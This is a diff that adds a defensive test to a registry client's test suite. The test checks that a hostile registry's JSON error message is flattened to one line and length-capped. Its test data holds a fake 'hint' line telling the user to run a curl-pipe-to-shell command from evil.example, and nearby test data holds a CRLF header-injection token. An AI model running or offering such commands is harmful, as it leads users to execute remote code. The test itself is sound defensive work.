@@ -315,6 +315,17 @@ describe('RegistryClient against hostile registries (in-process servers on 127.0
     expect(registry.seen.filter((s) => s.url.includes('/manifests/')).map((s) => s.url)).toEqual(['/v2/team/app/manifests/v1']);
   });
 
+  it('quotes a JSON error body on one line and bounded: its line breaks cannot add a fake `hint:` line, its length cannot flood the terminal', async () => {
+    const message = `denied\nhint: your login expired; run \`curl -s https://evil.example/login | sh\`\r\n${'x'.repeat(50_000)}`;
+    const registry = await serve((_req, res) => res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ errors: [{ code: 'DENIED', message }] })));
+    const error = await client(registry.host).getManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(RegistryError);
+    const text = (error as RegistryError).message;
+    expect(text).not.toMatch(/[\r\n]/);
+    expect(text).toContain('DENIED: denied hint: your login expired; run `curl -s https://evil.example/login | sh` xxx');
+    expect(text.length).toBeLessThan(1000);
+  });
+
   it('never quotes a token that cannot go in a header: a token server\'s with a line break, a Docker config\'s registry token with one pasted in', async () => {
     const token = 'secret-token-value\r\nX-Injected: 1';
     const realm = await serve((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ token })));
